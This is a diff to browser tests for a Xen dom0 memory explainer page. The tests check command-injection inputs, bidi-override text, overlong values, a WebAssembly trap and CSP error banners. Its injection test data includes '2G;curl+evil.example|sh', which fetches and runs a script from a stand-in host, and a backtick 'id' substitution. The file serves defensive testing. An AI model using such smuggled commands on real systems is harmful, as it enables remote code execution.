@@ -35,6 +35,30 @@ test("a link that cannot be read says so at the top, and leads to its field", as
   await page.close();
 });
 
+test("a link that wants to harm puts nothing into a command, hides nothing and fits a phone", async () => {
+  const options = ["2G;curl+evil.example|sh", "2G%60id%60", "%E2%80%AEM4201%3Axam", "8G%2B25%25%3Amin%3D-64T%25%3Amin%3A-1P", "A".repeat(4000)];
+  for (const option of options) {
+    const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${option}&xen=4.17&linux=6.12`, { width: 320 });
+    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320, option);
+    const codes = await page.$$eval(".command code", (all) => all.map((e) => e.textContent));
+    assert.ok(codes.length > 5, option);
+    assert.deepEqual(codes.filter((c) => /curl|`|\|sh|M4201|[^\n -~]/.test(c)), [], option);
+    assert.doesNotMatch(await page.$eval("main", (e) => e.textContent), /\u202e|A{200}/, option);
+    assert.deepEqual(wrong, []);
+    await page.close();
+  }
+});
+
+test("an option of very many letters has an error beside its field and stays there", async () => {
+  const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${"A".repeat(21_000)}`);
+  assert.match(await text(page, "#unread"), /too long for this field/);
+  assert.equal(await page.$eval("#dom0-mem", (e) => e.value.length), 21_000);
+  await type(page, "dom0-mem", "2G");
+  assert.match(await text(page, "p.machine"), /dom0_mem=2G,/);
+  assert.deepEqual(wrong, []);
+  await page.close();
+});
+
 test("while a field is in error every result says of which machine it is", async () => {
   const { page, wrong } = await open(browser, site.url);
   const marks = () => page.$$eval("[data-stale-mark]", (all) => all.filter((e) => e.checkVisibility()).map((e) => e.textContent));
@@ -91,14 +115,15 @@ test("while the engine loads the first content is there and nothing pretends to 
 
 test("where wasm is refused or missing the page says so and keeps its first content", async () => {
   const cases = [
-    { csp: "default-src 'none'; script-src 'self'; style-src 'self'; img-src data:; connect-src 'self'" },
-    { missing: [".wasm"] },
+    [{ csp: "default-src 'none'; script-src 'self'; style-src 'self'; img-src data:; connect-src 'self'" }, "wasm-csp", /content policy does not allow WebAssembly/],
+    [{ missing: [".wasm"] }, "wasm-load", /server answered 404/],
   ];
-  for (const options of cases) {
+  for (const [options, code, says] of cases) {
     const other = await start({ root: dist, ...options });
     const { page } = await open(browser, other.url, { watch: false });
     await page.waitForSelector("#banner:not([hidden])");
-    assert.match(await text(page, "#banner"), /content policy|answered 404/);
+    assert.match(await text(page, "#banner"), says);
+    assert.equal(await page.$eval("#banner", (e) => e.dataset.code), code);
     assert.match(await text(page, "[data-text=headline]"), /Linux 3.2 gives/);
     assert.ok(await page.$(".answer svg"));
     await page.close();
@@ -171,6 +196,32 @@ test("a panic ends no page: the last good machine is back, with a link to what c
   await page.close();
 });
 
+test("a real trap of the module itself ends no page either", async () => {
+  const { page } = await open(browser, site.url);
+  const trap = await page.evaluate(async () => {
+    // The module as it ships stops itself where it is asked for more memory than there is:
+    // on its own stack, by its own instruction.
+    const { default: init, Explainer } = await import("/explainer.js");
+    const run = Explainer.prototype.run;
+    const wasm = await init();
+    window.traps = [];
+    Explainer.prototype.run = function () {
+      if (this.get("dom0-mem") !== "3G") return run.call(this);
+      try { wasm.__wbindgen_malloc(0xfffffff0, 1); } catch (error) { window.traps.push(error instanceof WebAssembly.RuntimeError); throw error; }
+    };
+    return typeof wasm.__wbindgen_malloc;
+  });
+  assert.equal(trap, "function");
+  await type(page, "dom0-mem", "3G");
+  await page.waitForSelector("#banner[data-code=panic]:not([hidden])");
+  assert.deepEqual(await page.evaluate(() => window.traps), [true]);
+  assert.match(await page.$eval("#banner a", (a) => a.getAttribute("href")), /dom0-mem=3G/);
+  await type(page, "dom0-mem", "5G");
+  assert.match(await text(page, "[data-text=given]"), /5 GiB/);
+  assert.equal(await page.$eval("#banner", (e) => e.hidden), true);
+  await page.close();
+});
+
 test("an engine that panics is said, and what was typed stays in the address", async () => {
   const { page } = await open(browser, site.url);
   await type(page, "dom0-mem", "3G");
@@ -181,6 +232,6 @@ test("an engine that panics is said, and what was typed stays in the address", a
   await page.click("[data-part=next]");
   await page.waitForSelector("#banner:not([hidden])");
   assert.match(await text(page, "#banner"), /simulation stopped/);
-  assert.match(await page.evaluate(() => location.hash), /dom0-mem=3G/);
+  await page.waitForFunction(() => /dom0-mem=3G/.test(location.hash));
   await page.close();
 });
